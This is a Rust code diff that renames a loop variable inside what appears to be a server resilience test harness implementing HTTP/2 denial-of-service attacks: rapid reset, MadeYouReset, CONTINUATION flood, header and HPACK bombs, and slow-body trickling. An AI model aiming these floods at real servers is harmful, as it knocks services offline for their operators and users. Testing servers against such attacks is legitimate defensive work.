@@ -73,9 +73,9 @@ async fn until_ended(
 ) -> io::Result<Termination> {
     let RawConnection { mut reads, mut writes } = connection;
     let write = async {
-        for turn in 0.. {
+        for round in 0.. {
             use tokio::io::AsyncWriteExt;
-            if writes.write_all(&next(turn)).await.is_err() {
+            if writes.write_all(&next(round)).await.is_err() {
                 // The server may still send a GOAWAY that says why.
                 return sleep(Duration::from_secs(1)).await;
             }
@@ -93,15 +93,15 @@ async fn until_ended(
 async fn rapid_reset(to: SocketAddr, number: usize) -> io::Result<Termination> {
     let connection = RawConnection::handshake(to, number, &[]).await?;
     let block = head(SEARCH);
-    until_ended(connection, move |turn| reset_calls(&block, turn * BATCH..(turn + 1) * BATCH)).await
+    until_ended(connection, move |round| reset_calls(&block, round * BATCH..(round + 1) * BATCH)).await
 }
 
 /// Rapid reset in batches that stay within a client's burst allowance, each sent after a PING confirms the previous one.
 async fn paced_reset(to: SocketAddr, number: usize) -> io::Result<Termination> {
     let mut connection = RawConnection::handshake(to, number, &[]).await?;
     let block = head(SEARCH);
-    for turn in 0.. {
-        let calls = reset_calls(&block, turn * BATCH..(turn + 1) * BATCH);
+    for round in 0.. {
+        let calls = reset_calls(&block, round * BATCH..(round + 1) * BATCH);
         if connection.write(&[calls, frame(PING, 0, 0, b"seen it?")].concat()).await.is_err() {
             break;
         }
@@ -129,8 +129,8 @@ fn reset_calls(block: &[u8], calls: Range<u32>) -> Vec<u8> {
 async fn made_you_reset(to: SocketAddr, number: usize) -> io::Result<Termination> {
     let connection = RawConnection::handshake(to, number, &[]).await?;
     let block = head(SEARCH);
-    until_ended(connection, move |turn| {
-        let streams = (turn * BATCH..(turn + 1) * BATCH).map(|at| 2 * at + 1);
+    until_ended(connection, move |round| {
+        let streams = (round * BATCH..(round + 1) * BATCH).map(|at| 2 * at + 1);
         // A window beyond 2^31 - 1 is a stream error (RFC 9113, 6.9.1).
         let both = streams.map(|stream| {
             [
@@ -147,7 +147,7 @@ async fn made_you_reset(to: SocketAddr, number: usize) -> io::Result<Termination
 /// CVE-2024-27316 (CONTINUATION flood): a header block that never ends.
 async fn continuation_flood(to: SocketAddr, number: usize) -> io::Result<Termination> {
     let connection = RawConnection::handshake(to, number, &[]).await?;
-    until_ended(connection, |turn| match turn {
+    until_ended(connection, |round| match round {
         0 => frame(HEADERS, 0, 1, &head(SEARCH)),
         _ => frame(CONTINUATION, 0, 1, &literal("x-more", &"m".repeat(1_000))),
     })
@@ -157,8 +157,8 @@ async fn continuation_flood(to: SocketAddr, number: usize) -> io::Result<Termina
 /// Header blocks of one megabyte each.
 async fn header_bomb(to: SocketAddr, number: usize) -> io::Result<Termination> {
     let connection = RawConnection::handshake(to, number, &[]).await?;
-    until_ended(connection, |turn| {
-        let stream = 2 * turn + 1;
+    until_ended(connection, |round| {
+        let stream = 2 * round + 1;
         let piece = frame(CONTINUATION, 0, stream, &BOMB);
         [
             frame(HEADERS, END_STREAM, stream, &head(SEARCH)),
@@ -176,10 +176,10 @@ static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| literal("x-bomb", &"b".repeat(
 /// HPACK bomb: one large header in the dynamic table, referenced 12,000 times per call at one byte each.
 async fn hpack_bomb(to: SocketAddr, number: usize) -> io::Result<Termination> {
     let connection = RawConnection::handshake(to, number, &[]).await?;
-    until_ended(connection, |turn| {
-        let stream = 2 * turn + 1;
+    until_ended(connection, |round| {
+        let stream = 2 * round + 1;
         let mut block = head(SEARCH);
-        if turn == 0 {
+        if round == 0 {
             // Literal with incremental indexing: the first dynamic entry has index 62.
             let mut kept = literal("x-bomb", &"b".repeat(4_000));
             kept[0] = 0x40;
@@ -257,9 +257,9 @@ async fn slow_body(to: SocketAddr, number: usize) -> io::Result<Termination> {
     let RawConnection { mut reads, mut writes } = connection;
     let trickle = async move {
         use tokio::io::AsyncWriteExt;
-        for turn in 0_u32.. {
+        for round in 0_u32.. {
             // A length prefix whose message never arrives completely.
-            let byte = if turn == 3 { 4 } else { 0 };
+            let byte = if round == 3 { 4 } else { 0 };
             let all: Vec<Vec<u8>> = (0..STREAMS).map(|at| frame(DATA, 0, 2 * at + 1, &[byte])).collect();
             if writes.write_all(&all.concat()).await.is_err() {
                 break;
